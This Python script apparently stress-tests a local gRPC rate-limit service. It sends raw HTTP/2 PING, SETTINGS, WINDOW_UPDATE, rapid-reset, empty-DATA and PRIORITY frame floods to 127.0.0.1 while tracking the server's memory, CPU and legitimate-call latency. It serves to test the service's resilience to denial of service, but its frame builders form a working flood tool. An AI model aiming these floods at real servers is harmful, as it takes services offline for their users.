# HTTP/2 control-frame floods against the gRPC listener (and gateway): PING, SETTINGS,
# WINDOW_UPDATE, rapid reset (HEADERS+RST_STREAM), and an empty-DATA flood; never reading replies.
import socket, struct, time, os, sys, threading, rls, grpc, hpack
PORT = int(sys.argv[1]) if len(sys.argv) > 1 else 18081
PID = int(open(os.environ.get('ATTACK_LOGS', 'target/attacks') + '/sluice.pid').read())
def rss(): return int([l for l in open(f'/proc/{PID}/status') if l.startswith('VmRSS')][0].split()[1])
def cpu(): f = open(f'/proc/{PID}/stat').read().split(); return (int(f[13]) + int(f[14])) / os.sysconf('SC_CLK_TCK')
def frame(t, flags, sid, payload=b''): return struct.pack('>I', len(payload))[1:] + bytes([t, flags]) + struct.pack('>I', sid) + payload
PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(4, 0, 0)
enc = hpack.Encoder()
path = '/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit' if PORT == 18081 else '/x'
def hdrs():
    return enc.encode([(':method', 'POST'), (':scheme', 'http'), (':path', path), (':authority', '127.0.0.1'), ('content-type', 'application/grpc')])
ch, stub = rls.stub()
def legit():
    t = time.time()
    try: r = rls.CODES[rls.overall(stub(rls.request('edge', [rls.descriptor([('user', 'legit%f' % t)])]), timeout=5))]
    except grpc.RpcError as e: r = e.code().name
    return r, (time.time() - t) * 1000
def run(name, make, count, batch=2000):
    s = socket.create_connection(('127.0.0.1', PORT)); s.sendall(PREFACE)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    r0, c0, t0 = rss(), cpu(), time.time(); sent = 0; closed = None
    s.settimeout(5)
    try:
        for i in range(0, count, batch):
            s.sendall(b''.join(make(i + j) for j in range(batch))); sent += batch
            if time.time() - t0 > 20: break
    except (BrokenPipeError, ConnectionResetError, socket.timeout) as e:
        closed = type(e).__name__
    el = time.time() - t0
    lg = legit()
    # did the server close it (GOAWAY/EOF)?  read what is there
    s.settimeout(1); got = b''
    try:
        while len(got) < 1 << 22:
            d = s.recv(65536)
            if not d: closed = closed or 'EOF'; break
            got += d
    except Exception: pass
    goaway = b'\x07\x00\x00\x00\x00\x00' in got
    print(f'{name}: sent {sent} frames in {el:.1f}s; send stopped: {closed}; GOAWAY seen: {goaway}; RSS {r0}->{rss()} kB; sluice CPU {cpu()-c0:.1f}s; legit call during: {lg[0]} {lg[1]:.0f}ms')
    s.close()
N = int(os.environ.get('N', '200000'))
run('PING flood', lambda i: frame(6, 0, 0, struct.pack('>Q', i)), N)
run('SETTINGS flood', lambda i: frame(4, 0, 0, struct.pack('>HI', 3, 100)), N)
run('WINDOW_UPDATE flood (conn)', lambda i: frame(8, 0, 0, struct.pack('>I', 1)), N)
run('rapid reset (HEADERS+RST)', lambda i: frame(1, 4, 2 * i + 1, hdrs()) + frame(3, 0, 2 * i + 1, struct.pack('>I', 8)), N // 2, 500)
run('HEADERS then empty DATA flood on one stream', lambda i: (frame(1, 4, 1, hdrs()) if i == 0 else b'') + frame(0, 0, 1, b''), N)
run('PRIORITY flood', lambda i: frame(2, 0, 2 * i + 1, struct.pack('>IB', 0, 15)), N)
